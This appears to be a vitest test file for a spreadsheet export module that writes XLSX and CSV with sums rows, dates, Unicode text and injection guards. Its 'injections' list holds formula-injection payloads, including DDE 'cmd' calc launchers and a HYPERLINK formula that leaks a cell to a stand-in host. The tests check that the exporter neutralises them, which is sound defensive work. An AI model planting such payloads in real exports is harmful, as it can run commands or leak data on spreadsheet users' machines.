import { readXlsx } from 'hucre/xlsx';
import { expect, test } from 'vitest';
import type { SheetColumn } from './sheet-cells.ts';
import { csvOf, csvWithComma, xlsxOf, type Row, type Sheet } from './spreadsheet.ts';

const columns: SheetColumn[] = [
  { key: 'name', title: '姓名 <名称> & "more"', type: 'text', width: 20 },
  { key: 'points', title: 'Points', type: 'tenths', width: 10 },
  { key: 'times', title: 'Times', type: 'count', width: 8 },
  { key: 'day', title: 'Day', type: 'day', width: 12 },
  { key: 'at', title: 'At', type: 'instant', width: 18 },
];
const sheet: Sheet = { title: 'Ränge: 积分/榜 [2026]', columns, zone: 'Asia/Shanghai' };

async function* chunks(rows: readonly Row[], size = 2): AsyncGenerator<readonly Row[]> {
  for (let start = 0; start < rows.length; start += size) yield rows.slice(start, start + size);
}

async function bytesOf(source: AsyncIterable<Buffer>): Promise<Buffer> {
  return Buffer.concat(await Array.fromAsync(source));
}

async function readBack(rows: readonly Row[]): Promise<unknown[][]> {
  const workbook = await readXlsx(await bytesOf(xlsxOf(sheet, chunks(rows))));
  return workbook.sheets[0]!.rows as unknown[][];
}

/** The beginnings that a spreadsheet takes for a formula or a command, and what attackers put behind them. */
const injections = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  '  =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=HYPERLINK("http://x.example?leak="&A1,"click")',
  '=1+1";=1+1',
  '"=1+1',
];

test('sums close a file below an empty row, their names in the first free column or behind the last', async () => {
  const sums = async () => [
    { label: 'Booked', values: { points: -1_234, times: 3 } },
    { label: '=Pending', values: { points: 5 } },
    { label: 'Of no column', values: { gone: 1 } },
  ];
  const rows: Row[] = [{ name: 'One', points: 1, times: 2 }];
  const { sheets } = await readXlsx(await bytesOf(xlsxOf({ ...sheet, sums }, chunks(rows))));
  const [head, , empty = [], ...closing] = sheets[0]!.rows;
  expect(empty.every((cell) => cell === null)).toBe(true);
  expect(closing.map((row) => row.slice(0, 3))).toEqual([
    ['Booked', -123.4, 3],
    ['=Pending', 0.5, null],
  ]);
  const csv = async (sheet: Sheet, of: Row[]) => (await bytesOf(csvOf(sheet, chunks(of)))).toString('utf8');
  expect((await csv({ ...sheet, sums }, rows)).split('\r\n').slice(2)).toEqual([
    '',
    'Booked,-123.4,3,,',
    "'=Pending,0.5,,,",
    '',
  ]);
  const numbers = { ...sheet, columns: columns.slice(1, 3), sums };
  expect((await csv(numbers, rows)).split('\r\n').slice(2)).toEqual([
    '',
    '-123.4,3,Booked',
    "0.5,'=Pending",
    '',
  ]);
  // A file without rows has nothing to sum.
  expect((await csv({ ...sheet, sums }, [])).split('\r\n')).toHaveLength(2);
  expect(head).toHaveLength(columns.length);
});

test('a workbook reads back as it was written: texts whole, numbers as numbers, days as days', async () => {
  const rows: Row[] = [
    {
      name: '张三 <b>&amp;</b>',
      points: -105,
      times: 12_345,
      day: '2026-11-21',
      at: '2026-11-21T16:30:00.000Z',
    },
    { name: '  spaces and\nlines  ', points: 0, times: 0, day: '1900-03-01', at: '2026-01-01T00:00:00.000Z' },
    { name: null, points: undefined, times: null, day: null, at: null },
    { name: '😀 _x0041_ \u0007bell \ud800lone', points: 1, times: -1, day: '1899-05-05', at: null },
  ];
  const [head, first, second, empty, strange] = await readBack(rows);
  expect(head).toEqual(columns.map(({ title }) => title));
  expect(first!.slice(0, 3)).toEqual(['张三 <b>&amp;</b>', -10.5, 12_345]);
  expect(first!.slice(3)).toEqual([new Date('2026-11-21T00:00:00Z'), new Date('2026-11-22T00:30:00Z')]);
  expect(second!.slice(0, 3)).toEqual(['  spaces and\nlines  ', 0, 0]);
  expect((empty ?? []).every((cell) => cell === null || cell === undefined)).toBe(true);
  expect(strange![0]).toBe('😀 _x0041_ bell \ufffdlone');
  expect(strange!.slice(1, 4)).toEqual([0.1, -1, '1899-05-05']);
});

test('the header stays in view, cells carry references, and nothing is a formula', async () => {
  const rows = injections.map((name) => ({ name, points: 5 }));
  const workbook = await readXlsx(await bytesOf(xlsxOf(sheet, chunks(rows))));
  const read = workbook.sheets[0]!;
  expect(read.name).toBe('Ränge  积分 榜  2026');
  expect(read.freezePane).toMatchObject({ rows: 1 });
  const texts = (read.rows as unknown[][]).slice(1).map((row) => row[0]);
  expect(texts).toEqual(injections.map((text) => text.replace('\u0000', '').replace('\r', '\n')));
  expect([...(read.cells?.values() ?? [])].filter((cell) => 'formula' in cell && cell.formula)).toEqual([]);
});

test('a long text is cut to what a cell holds, without halving a character', async () => {
  const [, row] = await readBack([{ name: '😀'.repeat(20_000) }]);
  const text = String(row![0]);
  expect(text.length).toBeLessThanOrEqual(32_767);
  expect(text.endsWith('😀…')).toBe(true);
});

test('CSV begins with its mark and disarms every formula, and leaves numbers alone', async () => {
  const rows = injections.map((name) => ({
    name,
    points: -50,
    times: -3,
    day: '2026-11-21',
    at: '2026-11-21T16:30:00Z',
  }));
  const text = (await bytesOf(csvOf(sheet, chunks(rows, 3)))).toString('utf8');
  expect(text.startsWith('\ufeff姓名')).toBe(false);
  expect(text.startsWith('\ufeff"姓名 <名称> & ""more"""')).toBe(true);
  expect(text.split('\ufeff')).toHaveLength(2);
  const cells = injections.map((name) => name.replace('\u0000', '').replace('\r', '\n'));
  for (const cell of cells) {
    const bare = cell.startsWith('"') ? cell : `'${cell}`;
    expect(text).toContain(/["\n]/.test(bare) ? `"${bare.replaceAll('"', '""')}"` : bare);
  }
  expect(text.match(/,-5\.0,-3,2026-11-21,2026-11-22 00:30\r\n/g)).toHaveLength(injections.length);
});

test('an export that hands over the wrong kind of value fails loudly', async () => {
  await expect(readBack([{ points: 'many' }])).rejects.toThrow('a tenths column holds many');
  await expect(readBack([{ day: '21.11.2026' }])).rejects.toThrow('a day column holds');
});

test('CSV with a decimal comma separates by semicolons, so that a Spanish spreadsheet adds its numbers', async () => {
  const rows: Row[] = [
    { name: 'Ana, María; "la de" 3', points: 1_605, times: 2, day: '2026-11-24' },
    { name: '=1+1', points: -25, times: 1, day: '2026-11-25' },
  ];
  const text = (await bytesOf(csvWithComma(sheet, chunks(rows)))).toString('utf8');
  expect(text.startsWith('\ufeff')).toBe(true);
  expect(text.split('\r\n').slice(1)).toEqual([
    '"Ana, María; ""la de"" 3";160,5;2;2026-11-24;',
    "'=1+1;-2,5;1;2026-11-25;",
    '',
  ]);
});
